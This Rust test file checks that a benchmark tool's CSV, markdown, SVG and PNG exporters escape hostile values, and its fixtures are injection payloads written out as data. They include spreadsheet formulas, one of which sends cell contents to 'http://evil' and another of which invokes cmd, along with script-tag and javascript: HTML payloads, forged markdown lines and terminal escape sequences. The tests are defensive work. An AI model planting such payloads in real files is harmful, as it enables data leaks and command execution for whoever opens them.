//! Results files written from text that came from elsewhere (node names, error texts, modes
//! a results file carries): a spreadsheet opening the CSV runs no formula, and the markdown
//! and SVG carry no markup of that text's making (issue 31, finding 7).

mod common;

use results::{
    read_csv, write_csv, Exporter, MarkdownExporter, NetworkMode, RailStatus, Report, SvgExporter,
};

fn hostile_rows() -> Vec<results::RailResult> {
    let mut rows = common::fixture_rows();
    rows.truncate(2);
    rows[0].client_node = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")".into();
    rows[0].run_id = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    rows[0].server_node = "+1+1".into();
    rows[0].client_rdma_device = "\t=1+1".into();
    rows[1].network_mode = NetworkMode::Other("-2+3".into());
    rows[1].server_node = "'quoted".into();
    rows[1].status = RailStatus::Failed;
    rows[1].bw_avg_gbps = None;
    rows[1].error = Some("\r=cmd".into());
    rows
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_unchanged() {
    let rows = hostile_rows();
    let mut out = Vec::new();
    write_csv(&mut out, &rows).unwrap_or_else(|e| panic!("{e}"));
    let mut rdr = csv::ReaderBuilder::new().from_reader(&out[..]);
    let header = rdr.headers().cloned().unwrap_or_default();
    let mut cells = 0;
    for rec in rdr.records() {
        let rec = rec.unwrap_or_else(|e| panic!("{e}"));
        for (name, c) in header.iter().zip(rec.iter()) {
            cells += 1;
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "column {name} starts a formula: {c:?}"
            );
        }
    }
    assert!(cells > 20);
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("'=HYPERLINK"), "{text}");
    assert!(text.contains("''quoted"), "{text}");
    // Numbers stay numbers.
    assert!(!text.contains("'9"), "{text}");
    let back = read_csv(&out[..], "hostile.csv").unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(back, rows);
}

#[test]
fn markdown_carries_no_html_links_or_lines_from_a_results_file() {
    let mut rows = hostile_rows();
    rows[0].network_mode = NetworkMode::Other("<img src=x onerror=alert(1)>".into());
    rows[0].client_node = "node-a\n# forged heading\n<script>alert(1)</script>".into();
    rows[1].error = Some("[click](javascript:alert(1)) | `code` </td>".into());
    rows[1].network_mode = NetworkMode::Other("sriov\n\n| forged | table |".into());
    let report = Report::new("railbench <b>test</b>", rows);
    let md = MarkdownExporter
        .serialize(&report)
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_else(|e| panic!("{e}"));
    for bad in [
        "<img",
        "<script",
        "</td>",
        "<b>",
        "[click](javascript",
        "`code`",
    ] {
        assert!(!md.contains(bad), "{bad} in:\n{md}");
    }
    assert!(
        !md.lines()
            .any(|l| l.starts_with("# forged") || l.starts_with("| forged")),
        "{md}"
    );
    assert!(md.contains("&lt;img src=x"), "{md}");
}

#[test]
fn svg_escapes_labels_and_drops_control_characters() {
    let mut rows = hostile_rows();
    rows[0].network_mode = NetworkMode::Other("<script>alert(1)</script>\u{1}\u{1b}".into());
    let report = Report::new("test", rows);
    let svg = SvgExporter::default()
        .serialize(&report)
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!svg.contains("<script"), "{svg}");
    // XML 1.0 has no place for these: a document with one does not parse.
    assert!(
        !svg.chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t' && c != '\r'),
        "control characters in the SVG"
    );
}

/// The characters XML 1.0 has no place for (a document holding one does not parse): C0
/// controls other than tab, newline and carriage return, and U+FFFE, U+FFFF.
fn xml_forbidden(c: char) -> bool {
    matches!(c, '\u{0}'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{fffe}' | '\u{ffff}')
}

/// Issue 53, finding 5: an ESC in a node name and a U+FFFE in a label went into the SVG as
/// they were, which no XML reader takes: the SVG broke, and the PNG made from it. Neither is
/// in the chart now, and the PNG renders.
#[test]
fn svg_and_png_take_labels_with_characters_xml_forbids() {
    let mut rows = hostile_rows();
    rows[0].network_mode = NetworkMode::Other("sriov\u{fffe}\u{ffff}".into());
    rows[0].client_node = "node-\u{1b}[31mred".into();
    rows[1].network_mode = NetworkMode::Other("ipvlan\u{1b}]0;title\u{7}".into());
    let report = Report::new("test \u{fffe}", rows);
    let svg = SvgExporter::default()
        .serialize(&report)
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!svg.chars().any(xml_forbidden), "{svg:?}");
    results::svg_to_png(svg.as_bytes(), 1.0).unwrap_or_else(|e| panic!("the PNG: {e}"));
    let png = results::PngExporter::default()
        .serialize(&report)
        .unwrap_or_else(|e| panic!("the PNG: {e}"));
    assert!(png.starts_with(b"\x89PNG"));
}

/// Every value a report echoes is cut to a bounded length: a node name or error text of a
/// megabyte is not a megabyte of markdown or SVG.
#[test]
fn markdown_and_svg_echo_a_bounded_length_of_each_value() {
    let long = "x".repeat(1 << 20);
    let mut rows = hostile_rows();
    rows[0].network_mode = NetworkMode::Other(format!("m{long}"));
    rows[0].client_node = format!("n{long}");
    rows[1].error = Some(format!("e{long}"));
    let report = Report::new(format!("g{long}"), rows);
    for (name, out) in [
        ("markdown", MarkdownExporter.serialize(&report)),
        ("svg", SvgExporter::default().serialize(&report)),
    ] {
        let out = out.unwrap_or_else(|e| panic!("{name}: {e}"));
        assert!(out.len() < 64 * 1024, "{name}: {} bytes", out.len());
        let text = String::from_utf8_lossy(&out);
        assert!(!text.contains(&"x".repeat(1000)), "{name}");
    }
}

/// One escaping for every markdown text: what a value may not do in a cell it may not do in
/// a heading or a list either, and characters XML forbids are gone there too (a markdown
/// report pasted into an HTML page).
#[test]
fn markdown_drops_characters_xml_forbids_and_terminal_escapes() {
    let mut rows = hostile_rows();
    rows[0].network_mode = NetworkMode::Other("sriov\u{fffe}\u{1b}[2J".into());
    rows[1].error = Some("down\u{1b}]8;;http://evil\u{7}click\u{1b}]8;;\u{7}".into());
    let md = MarkdownExporter
        .serialize(&Report::new("t", rows))
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!md.chars().any(xml_forbidden), "{md:?}");
    assert!(!md.contains('\u{1b}'), "{md:?}");
}
